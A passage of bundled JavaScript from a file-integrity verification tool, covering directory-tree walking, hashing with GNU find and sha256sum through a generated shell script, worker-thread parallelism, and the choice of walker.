            const detail = `content changed at the same size (sha256 ${verifier_short(sha256)}, want ${verifier_short(want.sha256)})`;
            return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha256) }, cached);
        }
        return judgeMode(e, mode, { ...found, ...(sha256 ? { sha256: verifier_short(sha256) } : {}) }, cached);
    };
    if (ctx.metaOnly)
        return judgeContent(undefined, false);
    const key = identity(st);
    const cached = ctx.cache.file(e.id, key);
    if (cached !== undefined)
        return judgeContent(cached, true);
    return {
        jobs: [{ abs: loc.abs, how: 'full', cost: size }],
        judge: ([r]) => {
            if (!r || 'error' in r) {
                const code = r && 'error' in r ? r.error : 'EIO';
                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${code})`, recorded, found);
            }
            if (r.size === size)
                ctx.cache.setFile(e.id, key, r.sha256);
            return judgeContent(r.sha256, false);
        }
    };
}
function judgeMode(e, mode, found, cached) {
    const wanted = parseMode(e.expect.mode);
    const recorded = {
        type: 'file',
        size: e.expect.size,
        mode: e.expect.mode,
        sha256: verifier_short(e.expect.sha256)
    };
    if (lostExec(wanted, mode)) {
        const detail = `mode ${mode_octal(mode)}, exec bit lost (want ${e.expect.mode})`;
        return finding(e, 'STRIPPED', 'exec', detail, recorded, found, cached);
    }
    if (mode !== wanted) {
        const detail = `mode ${mode_octal(mode)} (want ${e.expect.mode})`;
        return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
    }
    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, mode ${e.expect.mode}`, recorded, found, cached);
}

;// CONCATENATED MODULE: ./src/core/walk/native/find-lines.ts
/**
 * find's output as lines, indexed and re-sorted into the Node walker's order. find prints each
 * directory in readdir order, one start point after another; the walk (walk-format.mjs) visits
 * each directory's children sorted by name, each followed by its own subtree. Everything
 * here works on the bytes as find wrote them: lines are found, compared and copied as bytes and
 * hashed as they are, with no string per line (strings were most of the time, and most of the
 * garbage, when lines were decoded).
 */


const SLASH = 0x2f;
/**
 * Where each line of find's output starts, where its path ends, where its name starts, and where
 * its subtree ends (the next line that is not below it): siblings are then found by jumping, and
 * sorting a directory's children costs in proportion to their number, not their subtrees' size.
 */
class Lines {
    bytes;
    start;
    nul;
    nameAt;
    end;
    /** A name's first four bytes, big-endian and zero-padded: most sibling comparisons stop here. */
    key;
    count = 0;
    /** The lines whose subtree is still open, and their depths. */
    open = [];
    openDepth = [];
    constructor(bytes) {
        this.bytes = bytes;
        // Room for lines of 32 bytes on average (a node_modules tree averages ~47): no regrowth.
        const n = Math.max(1024, Math.ceil(bytes.length / 32));
        this.start = new Int32Array(n);
        this.nul = new Int32Array(n);
        this.nameAt = new Int32Array(n);
        this.end = new Int32Array(n);
        this.key = new Uint32Array(n);
    }
    /**
     * False when a line is not `path NUL ...` (a newline inside a name splits one). One pass over
     * the bytes in plain JavaScript: a Buffer.indexOf call per line and per slash cost more than
     * the loop (measured).
     */
    scan() {
        const b = this.bytes;
        const n = b.length;
        let s = 0;
        let z = -1;
        let d = 0;
        let last = -1;
        for (let i = 0; i < n; i++) {
            const c = b[i];
            if (c === LINE_END) {
                if (z <= s)
                    return false;
                this.push(s, z, d, last + 1);
                s = i + 1;
                z = -1;
                d = 0;
                last = i;
            }
            else if (z === -1) {
                if (c === FIELD_SEP)
                    z = i;
                else if (c === SLASH) {
                    d++;
                    last = i;
                }
            }
        }
        this.closeTo(0);
        this.start = grown(this.start, this.count + 1);
        this.start[this.count] = s;
        return s === n;
    }
    push(s, z, d, nameAt) {
        const k = this.count;
        this.closeTo(d);
        if (k === this.start.length) {
            this.start = grown(this.start, k + 1);
            this.nul = grown(this.nul, k + 1);
            this.nameAt = grown(this.nameAt, k + 1);
            this.end = grown(this.end, k + 1);
            const key = new Uint32Array(this.start.length);
            key.set(this.key);
            this.key = key;
        }
        this.start[k] = s;
        this.nul[k] = z;
        this.nameAt[k] = nameAt;
        let key = 0;
        for (let i = nameAt; i < nameAt + 4; i++)
            key = key * 256 + (i < z ? this.bytes[i] : 0);
        this.key[k] = key;
        this.open.push(k);
        this.openDepth.push(d);
        this.count++;
    }
    /** Ends, at the current line, every open subtree at depth `d` or deeper. */
    closeTo(d) {
        const open = this.open;
        const depth = this.openDepth;
        while (open.length > 0 && depth[depth.length - 1] >= d) {
            depth.pop();
            this.end[open.pop()] = this.count;
        }
    }
    /**
     * Byte order of two lines' names (names are unique among siblings: never 0): walk-format.mjs's
     * visit order on the names' bytes, the same order but where native-walk.ts says it is not.
     */
    compareNames(x, y) {
        const k = this.key[x] - this.key[y];
        if (k !== 0)
            return k;
        const b = this.bytes;
        let i = this.nameAt[x];
        let j = this.nameAt[y];
        const ie = this.nul[x];
        const je = this.nul[y];
        for (; i < ie && j < je; i++, j++) {
            const d = b[i] - b[j];
            if (d !== 0)
                return d;
        }
        return ie - i - (je - j);
    }
    /** Both kinds of line carry the type right after the path. */
    isDir(k) {
        return this.bytes[this.nul[k] + 1] === DIR_BYTE;
    }
    startsWith(k, prefix) {
        const b = this.bytes;
        const s = this.start[k];
        if (s + prefix.length > b.length)
            return false;
        for (let i = 0; i < prefix.length; i++)
            if (b[s + i] !== prefix[i])
                return false;
        return true;
    }
}
/** `a` with room for at least `n` elements (doubling, so pushes stay linear). */
function grown(a, n) {
    if (n <= a.length)
        return a;
    const b = new Int32Array(Math.max(n, a.length * 2));
    b.set(a);
    return b;
}
/**
 * Bytes [from, to) of `src` into `out` at `pos`. Most runs are one short line (readdir order is
 * rarely name order): a loop beats Buffer.copy's per-call checks below a few hundred bytes.
 */
function copyRun(src, from, to, out, pos) {
    if (to - from > 256)
        return src.copy(out, pos, from, to);
    for (let i = from; i < to; i++)
        out[pos++] = src[i];
    return to - from;
}
/**
 * Lines [from, to) of one start point (a preorder walk in readdir order) in the Node walker's
 * order, each directory's children sorted by name, each followed by its own subtree, copied into
 * `out` from `pos`: runs of lines that are already in order are copied at once.
 */
function sortedBlock(l, from, to, out, pos) {
    let runStart = 0;
    let runEnd = 0;
    const take = (h) => {
        const s = l.start[h];
        if (s !== runEnd) {
            pos += copyRun(l.bytes, runStart, runEnd, out, pos);
            runStart = s;
        }
        runEnd = l.start[h + 1];
    };
    // Recursion is as deep as the tree, as in the Node walker.
    const emit = (s, e) => {
        const heads = [];
        for (let i = s; i < e; i = l.end[i])
            heads.push(i);
        for (let k = 1; k < heads.length; k++)
            if (l.compareNames(heads[k - 1], heads[k]) > 0) {
                heads.sort((x, y) => l.compareNames(x, y));
                break;
            }
        for (const h of heads) {
            take(h);
            emit(h + 1, l.end[h]);
        }
    };
    emit(from, to);
    return pos + copyRun(l.bytes, runStart, runEnd, out, pos);
}
/** One find's output split among its roots (in order); false when it does not fit. */
function splitBatch(bytes, batch, roots, texts) {
    const l = new Lines(bytes);
    if (!l.scan())
        return false;
    // One buffer for the whole batch, the same size as find's output: each root gets a slice.
    const out = Buffer.allocUnsafe(bytes.length);
    let pos = 0;
    let at = 0;
    for (const i of batch) {
        // find walks its start points in order: root i's lines are the next ones under its name.
        const prefix = bytesOf(`${roots[i].rel}/`);
        let end = at;
        let files = 0;
        while (end < l.count && l.startsWith(end, prefix))
            end = l.end[end];
        for (let k = at; k < end; k++)
            if (!l.isDir(k))
                files++;
        const next = sortedBlock(l, at, end, out, pos);
        texts[i] = { bytes: out.subarray(pos, next), files };
        pos = next;
        at = end;
    }
    return at === l.count;
}

;// CONCATENATED MODULE: ./src/core/walk/native/native-walk.ts
/**
 * The digest-line walk of large trees delegated to GNU find, when this machine has it. Measured
 * here on a 60,000-file tree, two find processes (C, fstatat relative to an open directory) emit
 * the lines in about half the time two Node walk workers take: Node's per-entry cost is the lstat
 * binding and its Stats object, not the system call, and a metadata check is nothing but that.
 *
 * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: both take
 * them from walk-format.mjs (find through its -printf formats). find emits each directory in
 * readdir order, and find-lines.ts re-sorts the children by name (piping through
 * sort(1) instead, or sorting in worker threads, were both measured slower: sort cannot start
 * before find ends, and workers cost more to start than they save on two cores). Whenever the
 * result could differ in any way, this returns undefined and the caller walks in Node: no find or
 * /bin/sh at a fixed path, ignore rules other than plain names, an excluded path inside the tree,
 * anything on find's stderr (an unreadable directory: the Node walker names it), a newline in a
 * name, or a top level that find saw differently from the listing that split the work.
 * find prints names as bytes and the Node walker writes them as bytes too (byte-names.mjs), so a
 * name that is not UTF-8 gives the same line both ways. Where the two orders can differ (bytes
 * against JavaScript's UTF-16 order: characters beyond U+FFFF beside U+E000..U+FFFF, or a byte
 * that is not UTF-8 beside either) no test is needed: the digest then differs from the recorded
 * one, and a digest that differs only ever sends the check down its full walk. Equal digests are
 * all the fast path trusts, and find's lines are the tree as it is.
 */










/** Only fixed paths: a `find` earlier in PATH is not a walker this process should trust. */
const CANDIDATES = ['/usr/bin/find', '/bin/find'];
const SH = '/bin/sh';
const SHA256SUM = '/usr/bin/sha256sum';
/**
 * The find binary to try (with /bin/sh to run it), or undefined. No version probe (a process start
 * costs more than the walk saves on small trees): a find without GNU's -printf fails, says so on
 * stderr, and the Node walker runs.
 */
function gnuFind() {
    if (process.platform !== 'linux' || !executable(SH))
        return undefined;
    return CANDIDATES.find(executable);
}
function executable(bin) {
    try {
        external_node_fs_default().accessSync(bin, (external_node_fs_default()).constants.X_OK);
        return true;
    }
    catch {
        return false;
    }
}
/**
 * find's expression: names to prune, then walk-format.mjs's -printf per type, so each line is the
 * digest line itself, path relative to the tree (start points are its top-level names). `top`
 * describes the start points themselves (the tree's top level) instead of what lies below them.
 */
function findArgs(kind, ignore, top = false) {
    const prune = ignore.flatMap((n, i) => (i === 0 ? ['-name', n] : ['-o', '-name', n]));
    return [
        ...(top ? ['-maxdepth', '0'] : ['-mindepth', '1']),
        ...(prune.length > 0 ? ['(', ...prune, ')', '-prune', '-o'] : []),
        '(',
        ...findPrintArgs(kind),
        ')'
    ];
}
/**
 * What to undo if the process exits mid-walk (an interrupt ends swr with process.exit): one exit
 * listener for every walk in flight.
 */
const atExit = new Set();
let listening = false;
/** Runs `fn` if the process exits before the returned release is called. */
function untilDone(fn) {
    if (!listening) {
        // Until the shells run an exit hook of the core, this removes find's temp files on process.exit.
        // eslint-disable-next-line no-restricted-properties
        process.on('exit', () => {
            for (const f of atExit)
                f();
        });
        listening = true;
    }
    atExit.add(fn);
    return () => atExit.delete(fn);
}
/** A word the shell reads back unchanged: any bytes but NUL, single-quoted. */
function shellWord(s) {
    return `'${s.replaceAll("'", `'\\''`)}'`;
}
/**
 * Runs the finds, or undefined when any failed or complained. One shell runs them side by side:
 * one process start instead of one per find (each start is ~5-10 ms of this process's time, on the
 * critical path). The script is a file in the private directory, so no argument-length limit
 * applies however many start points there are. find writes to files there rather than pipes:
 * measured ~60 ms faster on 60,000 entries (no pipe to drain through the event loop, no socket per
 * child). With `sum`, sha256sum hashes each output beside its find: a warm check whose outputs
 * hash as before never reads them here (reading and hashing 7 MB of stamp lines was ~45 ms of
 * this thread; sha256sum takes ~10 ms per output, on the other core).
 */
function runFinds(cwd, commands, dir, sum) {
    const outs = commands.map((_, b) => external_node_path_default().join(dir, `${b}.out`));
    const lines = commands.flatMap((argv, b) => {
        const out = shellWord(outs[b]);
        const find = `${argv.map(shellWord).join(' ')} >${out}`;
        const hash = `${SHA256SUM} <${out} >${shellWord(`${outs[b]}.sum`)}`;
        return [sum ? `{ ${find} && ${hash}; } &` : `${find} &`, `p${b}=$!`];
    });
    const waits = commands.map((_, b) => `wait "$p${b}" || s=1`);
    const script = external_node_path_default().join(dir, 'walk.sh');
    const err = external_node_path_default().join(dir, 'err');
    let errFd;
    try {
        // As bytes: a start point whose name is not UTF-8 must reach find as the name it is.
        const text = ['s=0', ...lines, ...waits, 'exit "$s"', ''].join('\n');
        external_node_fs_default().writeFileSync(script, bytesOf(text), {
            flag: 'wx',
            mode: 0o600
        });
        errFd = external_node_fs_default().openSync(err, 'wx', 0o600);
    }
    catch {
        return Promise.resolve(undefined);
    }
    return new Promise(resolve => {
        // Its own process group, so an exit mid-walk can end the shell and every find at once.
        const p = (0,external_node_child_process_.spawn)(SH, [script], {
            cwd,
            stdio: ['ignore', 'ignore', errFd],
            env: { LC_ALL: 'C', PATH: '/usr/bin:/bin' },
            detached: true
        });
        external_node_fs_default().closeSync(errFd);
        const release = untilDone(() => {
            try {
                if (p.pid)
                    process.kill(-p.pid, 'SIGKILL');
            }
            catch {
                // Already gone.
            }
        });
        p.on('error', () => {
            release();
            resolve(undefined);
        });
        p.on('exit', code => {
            release();
            // Anything on stderr (an unreadable directory) is a walk the Node walker must describe.
            if (code !== 0 || external_node_fs_default().statSync(err).size > 0)
                return resolve(undefined);
            if (!sum)
                return resolve({ outs });
            const sums = outs.map(o => /^[0-9a-f]{64}/.exec(external_node_fs_default().readFileSync(`${o}.sum`, 'latin1'))?.[0]);
            resolve(sums.every(x => x !== undefined) ? { outs, sums: sums } : undefined);
        });
    });
}
/** The raw digest: over each output's sha256, so sha256sum and this process agree on it. */
function rawDigest(sums) {
    return (0,external_node_crypto_.createHash)('sha256').update(sums.join('\n')).digest('hex');
}
/** The private output directory holds only find's files: no recursive rm (its loader costs ~3 ms). */
function removeFlat(dir) {
    try {
        for (const f of external_node_fs_default().readdirSync(dir))
            external_node_fs_default().unlinkSync(external_node_path_default().join(dir, f));
        external_node_fs_default().rmdirSync(dir);
    }
    catch {
        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    }
}
/** Where the native walk's digests stop being the Node walker's: it then steps aside. */
function unsupported(treeRoot, top, ignore, exclude) {
    if (!allPlainNames(ignore))
        return true;
    for (const x of exclude)
        if (x === treeRoot || x.startsWith(treeRoot + '/'))
            return true;
    // A top-level name that find would read as an option or operator is left to the Node walker.
    return top.some(t => /^[-!(),]/.test(t.rel) || t.rel.includes('/'));
}
/**
 * The metadata digest or cache stamp of a tree, from find's lines: one find describes the top
 * level (the start points themselves, in walk order) and one per job walks a share of the
 * top-level directories below them. Undefined when the native walk cannot promise the Node
 * walker's lines. The raw digest (over the sha256 of each of find's outputs as they came) is
 * returned too: when it equals `known.raw`, find printed exactly what it printed when `known` was
 * computed, and the re-sort is skipped.
 */
async function nativeTreeDigest(treeRoot, top, ignore, exclude, kind, jobs, opts = {}) {
    const known = opts.known;
    const bin = gnuFind();
    if (!bin || unsupported(treeRoot, top, ignore, exclude))
        return undefined;
    const roots = top.filter(t => t.dir);
    // find with no start point would walk "." instead: every command below names at least one.
    if (roots.length === 0)
        return undefined;
    const batches = Array.from({ length: Math.max(1, Math.min(jobs, roots.length)) }, () => []);
    roots.forEach((_, i) => batches[i % batches.length].push(i));
    const args = findArgs(kind, ignore);
    const commands = [
        [bin, ...top.map(t => t.rel), ...findArgs(kind, ignore, true)],
        ...batches.map(batch => [bin, ...batch.map(i => roots[i].rel), ...args])
    ];
    const dir = leftovers_makeOwnedTemp(external_node_os_default().tmpdir(), 'swr-walk');
    const release = untilDone(() => removeFlat(dir));
    try {
        const sum = opts.sha256sum ?? (known !== undefined && executable(SHA256SUM));
        const found = await runFinds(treeRoot, commands, dir, sum);
        if (!found)
            return undefined;
        // The same raw digest as `known`'s: find printed the same bytes, so the tree gives the same.
        const hit = (raw) => raw === known?.raw
            ? { digest: known.digest, files: known.files, unreadable: [], raw }
            : undefined;
        const summed = found.sums && hit(rawDigest(found.sums));
        if (summed)
            return summed;
        const [topBytes, ...outputs] = found.outs.map(o => external_node_fs_default().readFileSync(o));
        const raw = rawDigest([topBytes, ...outputs].map(o => (0,external_node_crypto_.createHash)('sha256').update(o).digest('hex')));
        const subtrees = new Array(roots.length);
        return (hit(raw) ??
            (outputs.every((out, b) => splitBatch(out, batches[b], roots, subtrees))
                ? assemble(new Lines(topBytes), top, subtrees, raw)
                : undefined));
    }
    finally {
        release();
        removeFlat(dir);
    }
}
/**
 * The digest in walk order: each top-level line, then the subtree below it. Undefined when find's
 * top level is not the listing's (an entry replaced or retyped between the two).
 */
function assemble(l, top, subtrees, raw) {
    if (!l.scan() || l.count !== top.length)
        return undefined;
    const h = (0,external_node_crypto_.createHash)('sha256');
    let files = 0;
    let sub = 0;
    for (let k = 0; k < top.length; k++) {
        const t = top[k];
        const name = bytesOf(t.rel);
        const s = l.start[k];
        if (l.nul[k] - s !== name.length || !l.startsWith(k, name) || l.isDir(k) !== t.dir)
            return undefined;
        h.update(l.bytes.subarray(s, l.start[k + 1]));
        if (!t.dir) {
            files++;
            continue;
        }
        const below = subtrees[sub++];
        h.update(below.bytes);
        files += below.files;
    }
    return { digest: h.digest('hex'), files, unreadable: [], raw };
}

;// CONCATENATED MODULE: ./src/core/walk/walk-workers.ts
/**
 * The walk on worker threads: the main thread lists the tree's upper levels (splitTop) and walk
 * workers (hash-kernel.mjs) walk the directories below them, each in walk-format.mjs's order and
 * writing its lines; the results are stitched back here in walk order.
 */








/** The smallest number of top-level subdirectories worth splitting across workers. */
const MIN_ROOTS = 16;
/** How many levels below the root the main thread lists, at most, to find enough subdirectories. */
const MAX_SPLIT_DEPTH = 3;
/**
 * The tree's upper levels in walk order, listed here, with the directories below them that the
 * workers walk (`roots`). The top level alone when it has enough subdirectories; otherwise each
 * level's subdirectories are listed in turn (a tree of a few directories holding everything,
 * such as `src/`, still spreads over every core). Undefined when even that finds fewer than
 * `minRoots`, or a directory here cannot be listed (the inline walk then names it).
 */
function splitTop(root, ignore, exclude, minRoots = MIN_ROOTS) {
    // Workers match plain names only; a glob rule keeps the walk inline (see ignore-rules.ts).
    if (!allPlainNames(ignore))
        return undefined;
    const rules = { exclude, ignored: ignore_rules_ignoreMatcher(ignore) };
    const list = (relDir) => {
        const out = [];
        try {
            eachChild(relDir ? `${root}/${relDir}` : root, relDir, rules, (_abs, rel, type, st) => out.push(recordOf(rel, type, st)));
        }
        catch {
            return undefined;
        }
        return out;
    };
    const first = list('');
    if (!first)
        return undefined;
    // `open`: a directory whose entries are listed here (so not a root).
    let level = first.map(rec => ({ rec, open: false }));
    const roots = () => level.filter(x => x.rec.type === TYPE.dir && !x.open).length;
    for (let depth = 1; roots() > 0 && roots() < minRoots && depth < MAX_SPLIT_DEPTH; depth++) {
        const next = [];
        for (const x of level) {
            next.push(x);
            if (x.rec.type !== TYPE.dir || x.open)
                continue;
            const below = list(x.rec.rel);
            if (!below)
                return undefined;
            x.open = true;
            next.push(...below.map(rec => ({ rec, open: false })));
        }
        level = next;
    }
    if (roots() < minRoots)
        return undefined;
    const split = { top: [], roots: [] };
    for (const { rec, open } of level) {
        const sub = rec.type === TYPE.dir && !open
            ? split.roots.push({ abs: `${root}/${rec.rel}`, rel: rec.rel }) - 1
            : -1;
        split.top.push({ rec, sub });
    }
    return split;
}
/**
 * The metadata digest or the cache stamp of the tree `split` describes, from walk workers that
 * return each subtree's lines as text, hashed here in walk order (no per-entry records).
 */
async function digestInWorkers(split, ignore, exclude, kind, jobs) {
    const line = kind === 'meta' ? walk_metaLine : walk_stampLine;
    const texts = await inWorkers({ role: 'text', kind }, split.roots, ignore, exclude, jobs);
    const h = (0,external_node_crypto_.createHash)('sha256');
    let files = 0;
    const unreadable = [];
    for (const { rec, sub } of split.top) {
        updateLines(h, line(rec));
        if (rec.type !== TYPE.dir)
            files++;
        const t = sub >= 0 ? texts[sub] : undefined;
        if (!t)
            continue;
        updateLines(h, t.text);
        files += t.files;
        unreadable.push(...t.unreadable);
    }
    return { digest: h.digest('hex'), files, unreadable };
}
/**
 * The same walk on every core: this thread describes the upper levels `split` listed, workers
 * claim the directories below them one at a time (lstat, and with `hash` also the file hashes, in
 * one pass) and the results are stitched back in walk order. Workers return each subtree's digest
 * lines as bytes, so this thread only hashes them in order; the records are read back from those
 * lines only if something asks for them (a diff).
 */
async function walkInWorkers(root, split, ignore, exclude, opts) {
    const { top, roots } = split;
    const working = walkRootsInWorkers(roots, ignore, exclude, opts.hash, opts.jobs);
    // This thread's own entries (lines, and the files' hashes) while the workers walk theirs.
    const own = top.map(({ rec }) => {
        let content;
        let sha;
        let cached;
        if (opts.hash) {
            let extra;
            if (rec.type === TYPE.file) {
                extra = sha = walkedOrError(`${root}/${rec.rel}`, rec.size);
                if (sha !== undefined)
                    cached = Buffer.from(`,${JSON.stringify(rec.rel)}:${JSON.stringify(cacheValue(rec, sha))}`);
            }
            else if (rec.type === TYPE.link)
                extra = linkTargets(root, [rec])[0];
            content = contentLine(metaFields(rec.rel, rec.type, rec.size, rec.mode), extra ?? '');
        }
        return { meta: walk_metaLine(rec), stamp: walk_stampLine(rec), content, sha, cached };
    });
    const results = await working;
    const meta = (0,external_node_crypto_.createHash)('sha256');
    const stamp = (0,external_node_crypto_.createHash)('sha256');
    const content = (0,external_node_crypto_.createHash)('sha256');
    const cache = [];
    const topShas = new Map();
    const unreadable = [];
    let files = 0;
    let failed = 0;
    top.forEach(({ rec, sub }, k) => {
        const o = own[k];
        updateLines(meta, o.meta);
        updateLines(stamp, o.stamp);
        if (rec.type !== TYPE.dir)
            files++;
        if (o.content !== undefined) {
            updateLines(content, o.content);
            if (rec.type === TYPE.file)
                topShas.set(k, o.sha);
            if (rec.type === TYPE.file && o.sha === undefined)
                failed++;
            if (o.cached)
                cache.push(o.cached);
        }
        const r = sub >= 0 ? results[sub] : undefined;
        if (!r)
            return;
        for (const c of r.meta)
            meta.update(c);
        for (const c of r.stamp)
            stamp.update(c);
        for (const c of r.content ?? [])
            content.update(c);
        if (r.cache)
            cache.push(...r.cache);
        files += r.files;
        failed += r.failed;
        unreadable.push(...r.unreadable);
    });
    let unpacked;
    const unpack = () => (unpacked ??= unpackWalk(top, results, topShas));
    // The fragments each start with a comma: the first one's is dropped (copied once, when written).
    const first = cache.findIndex(c => c.length > 0);
    if (first >= 0)
        cache[first] = cache[first].subarray(1);
    const cacheJson = [OPEN, ...cache, CLOSE];
    const hashed = { content: content.digest('hex'), cacheJson };
    const pre = {
        meta: meta.digest('hex'),
        stamp: stamp.digest('hex'),
        failed,
        ...(opts.hash ? hashed : {})
    };
    return {
        get records() {
            return unpack().records;
        },
        get shas() {
            return opts.hash ? unpack().shas : undefined;
        },
        files,
        unreadable,
        pre
    };
}
/** The records (and hashes) of a parallel walk, in walk order, read back from the workers' lines. */
function unpackWalk(top, results, topShas) {
    const records = [];
    const shas = [];
    top.forEach(({ rec, sub }, k) => {
        records.push(rec);
        shas.push(topShas.get(k));
        const r = sub >= 0 ? results[sub] : undefined;
        if (!r || r.count === 0)
            return;
        const hex = Buffer.concat(r.shas).toString('latin1');
        recordsOf(Buffer.concat(r.meta), Buffer.concat(r.stamp), r.count).forEach((record, i) => {
            records.push(record);
            const sha = hex.slice(i * 64, i * 64 + 64);
            shas.push(sha === NO_SHA ? undefined : sha);
        });
    });
    return { records, shas };
}
/**
 * `count` records read back from their meta and stamp lines (walk-format.mjs). A line starts
 * with its path, which holds no NUL, and its other fields hold neither NUL nor LF, so the lines
 * read back unambiguously whatever the names hold.
 */
function recordsOf(meta, stamp, count) {
    const out = [];
    let m = 0;
    let t = 0;
    /** Where the next `end` byte is from `from`: a line cut short is a bug, never a guess. */
    const find = (b, from, end) => {
        const at = b.indexOf(end, from);
        if (at < 0)
            throw new Error('walk thread: a digest line ends early');
        return at;
    };
    for (let i = 0; i < count; i++) {
        const pathEnd = find(meta, m, FIELD_SEP);
        const typeEnd = find(meta, pathEnd + 1, FIELD_SEP);
        const sizeEnd = find(meta, typeEnd + 1, FIELD_SEP);
        const modeEnd = find(meta, sizeEnd + 1, LINE_END);
        const rel = nameOf(meta.subarray(m, pathEnd));
        const type = meta.toString('latin1', pathEnd + 1, typeEnd);
        const size = meta.toString('latin1', typeEnd + 1, sizeEnd);
        const mode = meta.toString('latin1', sizeEnd + 1, modeEnd);
        m = modeEnd + 1;
        // The stamp line repeats the path and the type before the identity.
        const identAt = find(stamp, find(stamp, t, FIELD_SEP) + 1, FIELD_SEP) + 1;
        const identEnd = find(stamp, identAt, LINE_END);
        const ident = stamp.toString('latin1', identAt, identEnd);
        t = identEnd + 1;
        const [dev = '', ino = '', mtime = '', ctime = ''] = ident.split(':');
        out.push({
            rel,
            type: type,
            size: Number(size),
            mode: parseInt(mode, 8),
            dev: BigInt(dev),
            ino: BigInt(ino),
            mtimeNs: stampTimeNs(mtime),
            ctimeNs: stampTimeNs(ctime)
        });
    }
    return out;
}
const OPEN = Buffer.from('{');
const CLOSE = Buffer.from('}');
function walkRootsInWorkers(roots, ignore, exclude, hash, jobs) {
    return inWorkers({ role: 'walk', hash }, roots, ignore, exclude, jobs);
}
/**
 * Run the kernel's `role` over `roots` on `jobs` cores; results come back in root order. While
 * no kernel thread is up and the main thread hashes nothing, the main thread is one of the
 * walkers (as in hash-pool.ts): it claims roots from the same counter from the start instead of
 * idling through a thread's 60-110 ms start, and one thread fewer starts (a thread's start and
 * its heap cost ~2,000 page faults). It lets its event loop run between roots.
 */
async function inWorkers(role, roots, ignore, exclude, jobs) {
    // Only plain names reach here (splitTop steps aside for globs): the kernel compares names.
    if (!allPlainNames(ignore))
        throw new Error('walk workers take plain-name ignore rules only');
    const names = [...ignore];
    const counter = new SharedArrayBuffer(4);
    const results = new Array(roots.length);
    const task = { ...role, roots, counter, names, exclude: [...exclude] };
    let filled = 0;
    let allIn = () => undefined;
    const complete = new Promise(resolve => (allIn = resolve));
    const put = (i, out) => {
        results[i] = out;
        if (++filled === roots.length)
            allIn();
    };
    const mainJoins = jobs > 1 && !isMainThreadHashing() && readyKernelThreads() === 0;
    const threads = Math.min(mainJoins ? jobs - 1 : jobs, roots.length);
    // The thread starts first: the main thread's first turn would otherwise delay its start.
    const onPool = onKernelThreads(task, threads, m => put(...m));
    const onMain = mainJoins ? walkOnMain(task, put) : Promise.resolve();
    // Every root in is the end of the threads' part, even while a thread that came up too late to
    // claim one is still starting; a failure before that is the caller's.
    onPool.catch(() => undefined);
    await Promise.all([onMain, roots.length === 0 ? onPool : Promise.race([complete, onPool])]);
    return results;
}
/** The longest the main thread walks before it lets its event loop run (one root at least). */
const walk_workers_TURN_MS = 2;
/** Claim roots from the task's counter, as a kernel thread does, and walk them here. */
async function walkOnMain(task, put) {
    mainThreadHashing(true);
    try {
        const rules = walkRules(task);
        const next = new Int32Array(task.counter);
        let since = performance.now();
        for (;;) {
            const i = Atomics.add(next, 0, 1);
            if (i >= task.roots.length)
                return;
            put(i, walkRoot(task, rules, i).out);
            if (performance.now() - since >= walk_workers_TURN_MS) {
                await (0,promises_.setImmediate)();
                since = performance.now();
            }
        }
    }
    finally {
        mainThreadHashing(false);
    }
}

;// CONCATENATED MODULE: ./src/core/walk/walk-strategy.ts
/**
 * Which walker walks a tree. Every walker gives the same lines in the same order (walk-format.mjs),
 * so the choice is about speed only: GNU find (native-walk.ts) for the record-less digests of a
 * large tree, else walk workers when the tree splits into enough subtrees (walk-workers.ts), else
 * the inline walk (walk.ts). `SWR_NATIVE_WALK=0` turns the find path off (a find that misbehaves
 * on some file system, or to compare the walkers); `1` or unset leaves it on.
 */






/** The variable that turns the native walk off. */
const NATIVE_WALK_VAR = 'SWR_NATIVE_WALK';
/**
 * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
 * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
 * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
 */
const NATIVE_MIN_FILES = 1000;
/** More workers than this cost more to start than they save (the walk is bound by the disk). */
const MAX_JOBS = 8;
/** Whether the environment allows the native walk; a value other than 0 or 1 is refused (exit 4). */
function nativeWalkAllowed(env) {
    const v = env[NATIVE_WALK_VAR];
    if (v === undefined || v === '' || v === '1')
        return true;
    if (v === '0')
        return false;
    throw new errors_SwrError(`${NATIVE_WALK_VAR} must be 0 (no find) or 1 (the default)`, errors_EXIT.BAD_MANIFEST);
}
function jobsOf(jobs) {
    return Math.min(jobs ?? external_node_os_default().availableParallelism(), MAX_JOBS);
}
/**
 * The metadata digest or the cache stamp of a large tree without building per-entry records: from
 * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers.
 * Undefined when the tree is too small or flat for either (the caller walks it inline).
 */
async function digestTreeParallel(root, ignore, exclude, opts) {
    const jobs = jobsOf(opts.jobs);
    if (opts.native !== false) {
        // find describes the top level too: only the listing is read here (no lstat per entry).
        const top = listTop(root, ignore, exclude);
        const dirs = top?.filter(t => t.dir).length ?? 0;
        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
                known: opts.known
            });
            if (r)
                return r;
        }
    }
    if (jobs < 2)
        return undefined;
    const split = splitTop(root, ignore, exclude);
    return split && digestInWorkers(split, ignore, exclude, opts.kind, jobs);
}
/**
 * The tree's records (and, with `hash`, its files' hashes and every digest) on every core when it
 * splits into enough subtrees; small or flat trees are walked inline.
 */
async function walkTreeParallel(root, ignore, exclude, opts) {
    const jobs = jobsOf(opts.jobs);
    // While the main thread hashes it is one of the cores (kernel-threads.ts caps the pool to the
    // rest). Asking only for the rest keeps the walk from waiting for one more thread, which would
    // start when the main thread's hash ends, near the end of most walks, for nothing.
    const threads = isMainThreadHashing() ? Math.max(1, jobs - 1) : jobs;
    // The levels listed to find subtrees are walked, and their files hashed, on this thread. One
    // walking thread needs no balance between subtrees: the top level is enough, and a big hash
    // here is not held up by the files of the levels below (~130 on the bench's src/, ~15 ms).
    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude, threads > 1 ? MIN_ROOTS : 1);
    if (!split)
        return walkTree(root, ignore, exclude);
    return walkInWorkers(root, split, ignore, exclude, { hash: opts.hash, jobs: threads });
}

;// CONCATENATED MODULE: ./src/core/verify/tree.ts
/**
